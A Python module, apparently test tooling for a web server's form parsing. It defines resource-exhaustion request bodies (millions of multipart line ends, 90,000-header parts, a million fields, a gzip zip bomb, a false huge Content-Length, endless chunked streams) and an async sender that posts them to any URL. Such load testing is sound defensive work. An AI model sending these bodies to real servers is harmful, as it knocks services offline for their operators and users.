"""Bodies that are made to cost a server much more than their sender, and how they are thrown."""

import asyncio
import contextlib
import gzip
from collections.abc import Iterable, Iterator
from typing import NamedTuple
from urllib.parse import urlsplit

_MULTIPART = b"Content-Type: multipart/form-data; boundary=b"
_CHUNKED = b"Transfer-Encoding: chunked"
_FORM = b"Content-Type: application/x-www-form-urlencoded"
_CHUNK = 1 << 16


class Bomb(NamedTuple):
    """A request with a body.

    Attributes:
        name: For reports.
        headers: Of the request, without Host.
        body: Its pieces; what the server does not take is not sent.
    """

    name: str
    headers: tuple[bytes, ...]
    body: Iterable[bytes]


class _Endless:
    def __iter__(self) -> Iterator[bytes]:
        while True:
            yield b"%x\r\n%s\r\n" % (_CHUNK, b"&" * _CHUNK)


def _whole(name: str, body: bytes, *headers: bytes) -> Bomb:
    pieces = [body[at : at + _CHUNK] for at in range(0, len(body), _CHUNK)]
    return Bomb(name, (*headers, b"Content-Length: %d" % len(body)), pieces)


BOMBS = (
    _whole("line ends before the first part", b"\n" * 1_000_000 + b"--b--\r\n", _MULTIPART),
    _whole("few line ends before the first part", b"\n" * 30_000 + b"--b--\r\n", _MULTIPART),
    _whole("four megabytes of line ends", b"\n" * 4_000_000 + b"--b--\r\n", _MULTIPART),
    _whole("a part with 90,000 headers", b"--b\r\n" + b"a: b\r\n" * 90_000 + b"\r\n--b--\r\n", _MULTIPART),
    _whole("a part with 5,000 headers", b"--b\r\n" + b"a: b\r\n" * 5_000 + b"\r\n--b--\r\n", _MULTIPART),
    _whole("14,000 parts", b"--b\r\n\r\n\r\n" * 14_000 + b"--b--\r\n", _MULTIPART),
    _whole("1,000 parts", b"--b\r\n\r\n\r\n" * 1_000 + b"--b--\r\n", _MULTIPART),
    _whole("no boundary", b"--\r\n" * 1_000, b"Content-Type: multipart/form-data"),
    _whole("a million fields", b"&".join([b"a"] * 1_000_000), _FORM),
    _whole("15,000 fields", b"&".join([b"a"] * 15_000), _FORM),
    _whole("a zip bomb", gzip.compress(b"&" * 10_000_000), _FORM, b"Content-Encoding: gzip"),
    _whole("another media type", b"x" * 1_000, b"Content-Type: text/plain"),
    Bomb("a length of five gigabytes", (_FORM, b"Content-Length: 5368709120"), ()),
    Bomb("a length that is no number", (_FORM, b"Content-Length: -1"), ()),
    Bomb("endless chunks", (_FORM, _CHUNKED), _Endless()),
    Bomb("endless chunks of parts", (_MULTIPART, _CHUNKED), _Endless()),
    Bomb("chunks that are none", (_FORM, _CHUNKED), (b"zz\r\n",)),
)


async def thrown(url: str, bomb: Bomb, *headers: bytes) -> int:
    """Send a bomb as far as it is taken; return the status of the answer, 0 if the connection is closed without one.

    Args:
        url: Where it is posted.
        bomb: The request.
        headers: Further ones.
    """
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    target = (parts.path + (f"?{parts.query}" if parts.query else "")).encode()
    lines = [b"POST %s HTTP/1.1" % target, b"Host: " + parts.netloc.encode(), *bomb.headers, *headers, b"", b""]
    writer.write(b"\r\n".join(lines))

    async def send() -> None:
        for piece in bomb.body:
            writer.write(piece)
            await writer.drain()

    sending = asyncio.create_task(send())
    try:
        async with asyncio.timeout(60):
            line = await reader.readline()
    except ConnectionError:
        line = b""
    finally:
        sending.cancel()
        with contextlib.suppress(asyncio.CancelledError, ConnectionError):
            await sending
        writer.close()
        with contextlib.suppress(ConnectionError):
            await writer.wait_closed()
    return int(line.split()[1]) if line else 0
